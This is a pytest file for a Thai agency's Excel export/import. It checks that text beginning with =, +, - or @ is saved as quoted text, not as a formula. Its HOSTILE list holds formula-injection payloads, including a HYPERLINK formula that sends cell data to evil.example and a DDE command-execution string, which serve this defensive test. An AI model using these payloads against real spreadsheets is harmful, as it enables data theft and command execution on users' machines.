"""Text that a spreadsheet would calculate (=, +, -, @ at the start) leaves the register as
text: stored as a string cell with Excel's quote prefix, never as a formula, and read back
exactly as typed, so a Thai title beginning with "-" is not changed by the round trip."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from measures import excel, excel_import
from measures.models import Measure, Result, Step
from tests.excel_files import history_count

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "+1+2",
    "-ลดการใช้กระดาษ",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def hostile_measure(agency, strategy_division):
    measure = Measure.objects.create(
        agency=agency, fiscal_year=2568, number=1, titles=HOSTILE[0], outcome=HOSTILE[1]
    )
    measure.responsible_divisions.set([strategy_division])
    Step.objects.create(measure=measure, position=1, text=HOSTILE[2])
    Result.objects.create(measure=measure, position=1, text=HOSTILE[3])
    Result.objects.create(measure=measure, position=2, text=HOSTILE[4])
    return measure


def test_no_cell_is_written_as_a_formula(agency, hostile_measure):
    data = excel.export_workbook(agency, 2568)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(archive.read(name).decode() for name in sheets)
    assert "<f>" not in xml and "<f " not in xml
    book = load_workbook(io.BytesIO(data))
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(excel.FORMULA_STARTS)
    ]
    assert sorted(cell.value for cell in cells) == sorted(HOSTILE)
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel's "'" marker: the cell stays text when edited


def test_hostile_text_reads_back_unchanged(agency, hostile_measure):
    data = excel.export_workbook(agency, 2568)
    before = history_count()
    result = excel_import.import_workbook(data)
    assert result.problems == []
    assert [o.action for o in result.outcomes] == [excel_import.SAME]
    assert history_count() == before
    hostile_measure.refresh_from_db()
    assert hostile_measure.titles == HOSTILE[0]


def test_control_characters_the_format_cannot_hold_are_left_out(agency, strategy_division):
    Measure.objects.create(agency=agency, fiscal_year=2568, number=1, titles="ก\x0bข")
    book = load_workbook(io.BytesIO(excel.export_workbook(agency, 2568)))
    assert book["มาตรการ"]["B2"].value == "กข"
